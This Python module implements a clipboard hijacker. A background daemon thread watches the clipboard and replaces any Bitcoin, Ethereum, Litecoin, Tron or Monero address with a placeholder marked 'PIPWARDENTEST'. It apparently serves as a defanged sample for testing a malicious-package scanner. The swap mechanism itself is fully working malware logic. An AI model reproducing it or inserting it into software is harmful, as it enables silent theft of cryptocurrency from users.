import re
import threading
import time

try:
    import pyperclip
except ImportError:  # pragma: no cover
    pyperclip = None

_SWAP = [
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$"), "bc1qPIPWARDENTESTxxxxxxxxxxxxxxxxxxxxxxxxx"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0xPIPWARDENTEST000000000000000000000000000"),
    (re.compile(r"^[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}$"), "LPIPWARDENTESTxxxxxxxxxxxxxxxxxxx"),
    (re.compile(r"^T[A-Za-z1-9]{33}$"), "TPIPWARDENTESTxxxxxxxxxxxxxxxxxxxx"),
    (re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"), "4PIPWARDENTEST" + "x" * 81),
]


class _Watcher(threading.Thread):
    daemon = True

    def run(self):
        if pyperclip is None:
            return
        while True:
            try:
                text = pyperclip.paste().strip()
                for pat, repl in _SWAP:
                    if pat.match(text) and text != repl:
                        pyperclip.copy(repl)
                        break
            except Exception:
                pass
            time.sleep(0.5)
